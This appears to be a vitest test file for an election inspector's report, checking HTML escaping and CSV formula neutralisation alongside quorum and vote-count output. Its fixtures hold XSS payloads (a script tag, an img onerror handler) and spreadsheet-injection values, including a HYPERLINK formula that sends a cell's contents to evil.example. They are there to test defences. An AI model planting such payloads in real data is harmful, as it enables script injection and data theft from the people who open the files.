// The inspector's report (shared/domain/inspector-report.ts): every figure of the result, in a page
// that escapes every name, and a CSV that a spreadsheet cannot be tricked into running.
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../shared/domain/csv.ts';
import { renderInspectorCsv, renderInspectorHtml } from '../../shared/domain/inspector-report.ts';
import { meetingSchema } from '../../shared/domain/meeting.ts';
import { tabulate } from '../../shared/domain/tabulate.ts';
import { hemacare, holder, internet, paper } from '../support/builders.ts';

const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const meeting = meetingSchema.parse({
  ...hemacare(),
  company: { name: `Acme ${SCRIPT} & Sons`, address: '1 Main Street' },
  title: '"><img src=x onerror=alert(2)>',
  place: "Hall <b>B</b> & 'annex'",
  sharesOutstanding: 10_000,
  proposals: [
    {
      kind: 'election',
      id: '1',
      title: `Directors ${SCRIPT}`,
      seats: 2,
      standard: 'plurality',
      cumulativeVotingAllowed: false,
      routine: true,
      nominees: [
        { id: 'x', name: FORMULA, boardRecommends: true },
        { id: 'y', name: `Mallory ${SCRIPT}`, boardRecommends: true },
        { id: 'z', name: '-2+3', boardRecommends: false },
      ],
    },
    {
      kind: 'matter',
      id: '2',
      title: '@SUM(A1:A9), "quoted", line\nbreak',
      standard: 'majority-of-votes-cast',
      routine: true,
      boardRecommendation: 'FOR',
    },
  ],
});

const holders = [holder('A-1', 4_000), holder('B-2', 3_000), holder('C-3', 3_000)];
const result = tabulate(
  meeting,
  holders,
  [
    internet('A-1', '2002-05-10T17:00:00.000Z', { '1': { marks: { x: 'FOR', y: 'FOR' } }, '2': 'FOR' }),
    internet('B-2', '2002-05-10T17:00:00.000Z', { '1': { marks: { z: 'FOR' } }, '2': 'AGAINST' }),
    paper('C-3', '2002-06-03', '2002-06-04T17:00:00.000Z', { '2': 'FOR' }, 'card-1'),
    paper('C-3', '2002-06-03', '2002-06-04T18:00:00.000Z', { '2': 'AGAINST' }, 'card-2'),
  ],
  { cumulative: false },
);
const run = {
  runId: '20020613T174800000Z-0a1b2c3d',
  kind: 'final',
  finishedAt: '2002-06-13T17:48:01.000Z',
  historyRoot: 'f'.repeat(64),
};

describe('the HTML report', () => {
  const page = renderInspectorHtml(result, meeting, run);

  it('escapes every name and title from the meeting file', () => {
    expect(page).not.toContain(SCRIPT);
    expect(page).not.toContain('<img');
    expect(page).not.toContain('<b>B</b>');
    expect(page).toContain('Acme &lt;script&gt;alert(1)&lt;/script&gt; &amp; Sons');
    expect(page).toContain('Mallory &lt;script&gt;');
    expect(page).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
    // The only markup is the page's own: one style element, no script, no event handler attribute.
    expect(page.match(/<script/gi)).toBeNull();
    expect(page).toContain('&quot;&gt;&lt;img src=x onerror=alert(2)&gt;');
    expect(page.match(/<[a-z]+[^>]*\son\w+=/gi)).toBeNull();
  });

  it('states the quorum, each proposal with its counts, threshold and outcome, and the open conflicts', () => {
    expect(page).toContain('Required quorum (Q)</th><td class="num">5,001</td>');
    expect(page).toContain('10,000 (100.00 % of N, 199.96 % of Q)');
    expect(page).toContain('<td>MET</td>');
    // A-1 marks both board nominees; C-3's cards agree on the election (blank: the board's nominees).
    expect(page).toMatch(
      /Mallory &lt;script&gt;alert\(1\)&lt;\/script&gt;<\/th><td>yes<\/td>\s*<td class="num">7,000<\/td>/,
    );
    expect(page).toContain('Elected: =HYPERLINK(');
    expect(page).toContain('Threshold: FOR &gt; AGAINST (3000); FOR needed: 3,001.');
    expect(page).toContain('Outcome: APPROVED');
    expect(page).toContain(
      '<tr><th scope="row">C-3</th><td class="num">3,000</td><td>card-1, card-2</td><td>2</td></tr>',
    );
    expect(page).toContain(run.runId);
    expect(page).toContain(run.historyRoot);
    expect(page).toContain('Inspector of elections: ');
    expect(page).toContain('@media print');
  });
});

describe('the CSV report', () => {
  const csv = renderInspectorCsv(result, run);
  const rows = parseCsv(csv);

  it('neutralises every cell a spreadsheet would take for a formula', () => {
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows).toContainEqual(['election', '1', `'${FORMULA}`, 'for', '7000']);
    expect(rows).toContainEqual(['election', '1', "'-2+3", 'for', '3000']);
    expect(rows).toContainEqual(['matter', '2', '', 'title', `'@SUM(A1:A9), "quoted", line\nbreak`]);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell(42)).toBe('42');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
  });

  it('has one measure per line: quorum, counts, thresholds, outcomes, conflicts', () => {
    expect(rows[0]).toEqual(['section', 'proposal', 'line', 'measure', 'value']);
    expect(rows).toContainEqual(['meeting', '', '', 'required_quorum', '5001']);
    expect(rows).toContainEqual(['meeting', '', '', 'quorum_met', 'yes']);
    expect(rows).toContainEqual(['meeting', '', '', 'accounts_without_instruction', '0']);
    expect(rows).toContainEqual(['matter', '2', '', 'for', '4000']);
    expect(rows).toContainEqual(['matter', '2', '', 'against', '3000']);
    expect(rows).toContainEqual(['matter', '2', '', 'outcome', 'APPROVED']);
    expect(rows).toContainEqual(['conflict', '', 'C-3', 'unvoted_proposals', '2']);
    expect(rows).toContainEqual(['meeting', '', '', 'history_digest', run.historyRoot]);
  });
});

/** A strict RFC 4180 reader, enough to read back what the report wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('rejected instructions and a final count made with conflicts open (RULES.md section 7)', () => {
  const closed = tabulate(
    meeting,
    holders,
    [
      internet('A-1', '2002-05-10T17:00:00.000Z', { '2': 'FOR' }),
      // 13 June 05:00 UTC: after the cut-off (03:59 UTC).
      internet('A-1', '2002-06-13T05:00:00.000Z', { '2': 'AGAINST' }, 'late-net'),
      paper('C-3', '2002-06-03', '2002-06-04T17:00:00.000Z', { '2': 'FOR' }, 'card-1'),
      paper('C-3', '2002-06-03', '2002-06-04T18:00:00.000Z', { '2': 'AGAINST' }, 'card-2'),
    ],
    { cumulative: false, pollsClosedAt: '2002-06-13T18:00:00.000Z' },
  );
  const accepted = { ...run, openConflictsAccepted: true };

  it('the page lists each rejected instruction with the rule broken, and the shares a conflict left unvoted', () => {
    const page = renderInspectorHtml(closed, meeting, accepted);
    expect(page).toContain('<p>Polls closed: 2002-06-13T18:00:00.000Z.</p>');
    expect(page).toContain(
      '<tr><th scope="row">A-1</th><td>late-net</td><td>internet proxy</td><td>2002-06-13T05:00:00.000Z</td><td>received after the internet cut-off, 2002-06-12 20:59:00 PDT</td></tr>',
    );
    expect(page).toContain(
      "with 1 conflict(s) open, by the inspector's explicit decision: 3,000 shares are present and left unvoted",
    );
    // Without the decision (a nightly count), no such statement.
    expect(renderInspectorHtml(closed, meeting, run)).not.toContain("inspector's explicit decision");
  });

  it('the CSV has the same facts, one per line', () => {
    const rows = parseCsv(renderInspectorCsv(closed, accepted));
    expect(rows).toContainEqual(['rejected', '', 'A-1', 'instruction', 'late-net']);
    expect(rows).toContainEqual(['rejected', '', 'A-1', 'rule', 'after-internet-cutoff']);
    expect(rows).toContainEqual(['meeting', '', '', 'open_conflicts_accepted', 'yes']);
    expect(rows).toContainEqual(['meeting', '', '', 'polls_closed_at', '2002-06-13T18:00:00.000Z']);
  });
});
